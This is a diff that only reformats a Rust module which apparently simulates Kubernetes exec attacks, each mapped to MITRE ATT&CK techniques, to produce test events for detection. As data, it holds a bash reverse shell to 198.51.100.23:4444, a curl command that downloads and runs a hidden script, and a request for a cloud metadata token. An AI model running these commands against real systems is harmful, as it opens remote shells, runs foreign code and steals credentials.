@@ -5,14 +5,54 @@ use super::super::truth::Family;
 use super::{Play, Stage};
 
 pub(super) const PLAYS: &[Play] = &[
-    play("interactive shell", &["EXEC-9", "EXEC-1"], &["T1609", "T1059.004"], shell),
-    play("service account's token read", &["EXEC-7", "EXEC-1"], &["T1552.007"], token),
-    play("reverse shell", &["EXEC-4", "EXEC-1"], &["T1059", "T1609"], reverse_shell),
-    play("metadata endpoint asked for a token", &["EXEC-6", "EXEC-1"], &["T1552.005"], metadata),
-    play("attach to a running process", &["EXEC-2"], &["T1609"], attach),
-    play("files copied out", &["EXEC-8", "EXEC-1"], &["T1005", "T1041"], copy_out),
-    play("tool downloaded and run", &["EXEC-5", "EXEC-1"], &["T1105"], download),
-    play("command in kube-system", &["EXEC-3", "EXEC-1"], &["T1609"], protected),
+    play(
+        "interactive shell",
+        &["EXEC-9", "EXEC-1"],
+        &["T1609", "T1059.004"],
+        shell,
+    ),
+    play(
+        "service account's token read",
+        &["EXEC-7", "EXEC-1"],
+        &["T1552.007"],
+        token,
+    ),
+    play(
+        "reverse shell",
+        &["EXEC-4", "EXEC-1"],
+        &["T1059", "T1609"],
+        reverse_shell,
+    ),
+    play(
+        "metadata endpoint asked for a token",
+        &["EXEC-6", "EXEC-1"],
+        &["T1552.005"],
+        metadata,
+    ),
+    play(
+        "attach to a running process",
+        &["EXEC-2"],
+        &["T1609"],
+        attach,
+    ),
+    play(
+        "files copied out",
+        &["EXEC-8", "EXEC-1"],
+        &["T1005", "T1041"],
+        copy_out,
+    ),
+    play(
+        "tool downloaded and run",
+        &["EXEC-5", "EXEC-1"],
+        &["T1105"],
+        download,
+    ),
+    play(
+        "command in kube-system",
+        &["EXEC-3", "EXEC-1"],
+        &["T1609"],
+        protected,
+    ),
 ];
 
 const fn play(
@@ -47,7 +87,11 @@ fn query(command: &[&str], tty: bool) -> String {
         query.push('&');
     }
     query.push_str("container=app");
-    query.push_str(if tty { "&stdin=true&stdout=true&tty=true" } else { "&stderr=true&stdout=true" });
+    query.push_str(if tty {
+        "&stdin=true&stdout=true&tty=true"
+    } else {
+        "&stderr=true&stdout=true"
+    });
     query
 }
 
@@ -79,13 +123,25 @@ fn token(s: &mut Stage<'_>) {
 fn reverse_shell(s: &mut Stage<'_>) {
     let (ns, _, pod) = s.victim();
     let command = ["bash", "-c", "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1"];
-    run(s, "opens a shell over the network", (&ns, &pod), &command, false);
+    run(
+        s,
+        "opens a shell over the network",
+        (&ns, &pod),
+        &command,
+        false,
+    );
 }
 
 fn metadata(s: &mut Stage<'_>) {
     let (ns, _, pod) = s.victim();
     let url = "http://169.254.169.254/metadata/identity/oauth2/token?api-version=2018-02-01&resource=https://vault.azure.net";
-    run(s, "asks for the node's identity", (&ns, &pod), &["curl", "-s", "-H", "Metadata:true", url], false);
+    run(
+        s,
+        "asks for the node's identity",
+        (&ns, &pod),
+        &["curl", "-s", "-H", "Metadata:true", url],
+        false,
+    );
 }
 
 fn attach(s: &mut Stage<'_>) {
@@ -93,7 +149,12 @@ fn attach(s: &mut Stage<'_>) {
     let client = s.insider();
     let verb = s.upgrade();
     let event = client
-        .request(s.rng, s.now(), verb, Target::core("pods").ns(&ns).name(&pod).sub("attach"))
+        .request(
+            s.rng,
+            s.now(),
+            verb,
+            Target::core("pods").ns(&ns).name(&pod).sub("attach"),
+        )
         .query("container=app&stdin=true&stdout=true&tty=true")
         .code(101);
     s.strike_long("attaches to the process", event, 200.0);
@@ -101,16 +162,38 @@ fn attach(s: &mut Stage<'_>) {
 
 fn copy_out(s: &mut Stage<'_>) {
     let (ns, _, pod) = s.victim();
-    run(s, "copies a folder out", (&ns, &pod), &["tar", "cf", "-", "/srv/data"], false);
+    run(
+        s,
+        "copies a folder out",
+        (&ns, &pod),
+        &["tar", "cf", "-", "/srv/data"],
+        false,
+    );
 }
 
 fn download(s: &mut Stage<'_>) {
     let (ns, _, pod) = s.victim();
-    let command = ["sh", "-c", "curl -fsSL http://198.51.100.77/stage.sh -o /tmp/.s; sh /tmp/.s"];
-    run(s, "downloads and runs a script", (&ns, &pod), &command, false);
+    let command = [
+        "sh",
+        "-c",
+        "curl -fsSL http://198.51.100.77/stage.sh -o /tmp/.s; sh /tmp/.s",
+    ];
+    run(
+        s,
+        "downloads and runs a script",
+        (&ns, &pod),
+        &command,
+        false,
+    );
 }
 
 fn protected(s: &mut Stage<'_>) {
     let pod = format!("coredns-{}-{}", s.rng.suffix(9), s.rng.suffix(5));
-    run(s, "runs a command in kube-system", ("kube-system", &pod), &["ls", "/etc/coredns"], false);
+    run(
+        s,
+        "runs a command in kube-system",
+        ("kube-system", &pod),
+        &["ls", "/etc/coredns"],
+        false,
+    );
 }
